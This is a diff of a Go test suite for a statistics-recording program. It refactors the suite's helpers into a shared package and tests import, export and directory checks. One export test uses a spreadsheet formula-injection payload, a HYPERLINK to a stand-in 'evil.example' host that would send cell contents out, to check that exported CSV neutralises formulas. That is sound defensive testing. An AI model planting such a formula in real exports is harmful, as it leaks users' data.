@@ -1,4 +1,4 @@
-package contract
+package history
 
 import (
 	"encoding/json"
@@ -7,6 +7,8 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+
+	"stats-recorder/contract/blackbox"
 )
 
 // TestAnImportThatCountsNothingLeavesNoTrace gives files that hold no record, into
@@ -14,9 +16,9 @@ import (
 func TestAnImportThatCountsNothingLeavesNoTrace(t *testing.T) {
 	t.Parallel()
 	counted := t.TempDir()
-	p := startProgram(t, counted, nil)
-	p.created(t, recordOf("RSA"))
-	p.terminate(t)
+	p := blackbox.StartProgram(t, counted, nil)
+	p.Created(t, blackbox.RecordOf("RSA"))
+	p.Terminate(t)
 	for name, content := range map[string]string{
 		"an object of something else": `{"x":1}`,
 		"an answer of /statistics":    `[{"benefit":"RSA","events_count":1,"events":{"show":{"2":{"1":1}}}}]`,
@@ -25,17 +27,17 @@ func TestAnImportThatCountsNothingLeavesNoTrace(t *testing.T) {
 	} {
 		file := savedAs(t, "file.json", []byte(content))
 		missing := filepath.Join(t.TempDir(), "missing")
-		if got := importOf(t, missing, file); got.code != 1 {
-			t.Errorf("%s: exit code %d, want 1:\n%s%s", name, got.code, got.stdout, got.stderr)
+		if got := importOf(t, missing, file); got.Code != 1 {
+			t.Errorf("%s: exit code %d, want 1:\n%s%s", name, got.Code, got.Stdout, got.Stderr)
 		}
 		for _, directory := range []string{t.TempDir(), counted} {
 			before := countsOf(t, directory)
 			got := importOf(t, directory, file)
-			if got.code != 1 || !strings.Contains(got.stderr, "nothing was imported") {
-				t.Errorf("%s: exit code %d, want 1 and why:\n%s%s", name, got.code, got.stdout, got.stderr)
+			if got.Code != 1 || !strings.Contains(got.Stderr, "nothing was imported") {
+				t.Errorf("%s: exit code %d, want 1 and why:\n%s%s", name, got.Code, got.Stdout, got.Stderr)
 			}
-			if again := importOf(t, directory, file); strings.Contains(again.stderr, "imported before") {
-				t.Errorf("%s: %s", name, again.stderr)
+			if again := importOf(t, directory, file); strings.Contains(again.Stderr, "imported before") {
+				t.Errorf("%s: %s", name, again.Stderr)
 			}
 			if after := countsOf(t, directory); fmt.Sprint(before) != fmt.Sprint(after) {
 				t.Errorf("%s: the files were %v and are %v", name, before, after)
@@ -45,7 +47,7 @@ func TestAnImportThatCountsNothingLeavesNoTrace(t *testing.T) {
 			t.Errorf("%s: the import has made %q and left it", name, missing)
 		}
 	}
-	startProgram(t, counted, nil).expectTotal(t, "RSA", 1)
+	blackbox.StartProgram(t, counted, nil).ExpectTotal(t, "RSA", 1)
 }
 
 func TestTheTotalsOfAnImportComeLastAndTheWholeListGoesToAFile(t *testing.T) {
@@ -54,15 +56,15 @@ func TestTheTotalsOfAnImportComeLastAndTheWholeListGoesToAFile(t *testing.T) {
 	for i := range 379 {
 		fmt.Fprintf(&documents, `{"_id":{"$oid":"%024x"},"benefit_id":"RSA","page_total":2,"benefit_index":%d.5,"event_type":"show"}`+"\n", i, i)
 	}
-	documents.WriteString(recordOf("RSA") + "\n")
+	documents.WriteString(blackbox.RecordOf("RSA") + "\n")
 	file, list := savedAs(t, "records.json", []byte(documents.String())), filepath.Join(t.TempDir(), "skipped.jsonl")
 	got := importOf(t, t.TempDir(), "--skipped", list, file)
-	lines := strings.Split(strings.TrimSpace(got.stdout), "\n")
-	if got.code != 0 || !strings.HasPrefix(lines[len(lines)-2], "read 380 documents = counted 1 + skipped 379") {
-		t.Errorf("exit code %d, want 0 and the totals before the last line:\n%s%s", got.code, got.stdout, got.stderr)
+	lines := strings.Split(strings.TrimSpace(got.Stdout), "\n")
+	if got.Code != 0 || !strings.HasPrefix(lines[len(lines)-2], "read 380 documents = counted 1 + skipped 379") {
+		t.Errorf("exit code %d, want 0 and the totals before the last line:\n%s%s", got.Code, got.Stdout, got.Stderr)
 	}
-	if !strings.Contains(got.stdout, "and 279 more") || strings.Count(got.stdout, "benefit_index is not an integer: ") != 100 {
-		t.Errorf("want a hundred examples and 279 more:\n%s", got.stdout)
+	if !strings.Contains(got.Stdout, "and 279 more") || strings.Count(got.Stdout, "benefit_index is not an integer: ") != 100 {
+		t.Errorf("want a hundred examples and 279 more:\n%s", got.Stdout)
 	}
 	content, err := os.ReadFile(list)
 	if err != nil {
@@ -86,15 +88,15 @@ func TestAnExportOpenedInASpreadsheetHoldsNoFormula(t *testing.T) {
 	t.Parallel()
 	const formula = `=HYPERLINK("http://evil.example/?"&A2,"clique")`
 	directory := t.TempDir()
-	p := startProgram(t, directory, nil)
-	p.created(t, array(recordOf(formula), recordOf("Livret d’épargne populaire")))
-	p.terminate(t)
+	p := blackbox.StartProgram(t, directory, nil)
+	p.Created(t, blackbox.Array(blackbox.RecordOf(formula), blackbox.RecordOf("Livret d’épargne populaire")))
+	p.Terminate(t)
 	export := func(arguments ...string) string {
-		got := run(t, []string{"DATA_DIR=" + directory}, append([]string{"export"}, arguments...)...)
-		if got.code != 0 {
-			t.Fatalf("export %q ends with %d: %s", arguments, got.code, got.stderr)
+		got := blackbox.Run(t, []string{"DATA_DIR=" + directory}, append([]string{"export"}, arguments...)...)
+		if got.Code != 0 {
+			t.Fatalf("export %q ends with %d: %s", arguments, got.Code, got.Stderr)
 		}
-		return got.stdout
+		return got.Stdout
 	}
 	quoted := strings.ReplaceAll(formula, `"`, `""`)
 	if safe := export(); !strings.HasPrefix(safe, "\xef\xbb\xbfday,") || !strings.Contains(safe, `"'`+quoted+`"`) {
@@ -112,11 +114,11 @@ func TestACommandThatReadsSaysThatThereIsNoDirectory(t *testing.T) {
 	t.Parallel()
 	missing := filepath.Join(t.TempDir(), "missing")
 	for _, command := range []string{"verify", "export"} {
-		run(t, nil, "--data-dir", missing, command).expectRefusal(t, missing, "no such data directory", "DATA_DIR")
+		blackbox.Run(t, nil, "--data-dir", missing, command).ExpectRefusal(t, missing, "no such data directory", "DATA_DIR")
 		if _, err := os.Stat(missing); err == nil {
 			t.Errorf("%s has made the directory that it was to read", command)
 		}
 		// A relative path is told as the absolute one.
-		run(t, []string{"DATA_DIR=nowhere"}, command).expectRefusal(t, string(filepath.Separator)+"nowhere")
+		blackbox.Run(t, []string{"DATA_DIR=nowhere"}, command).ExpectRefusal(t, string(filepath.Separator)+"nowhere")
 	}
 }
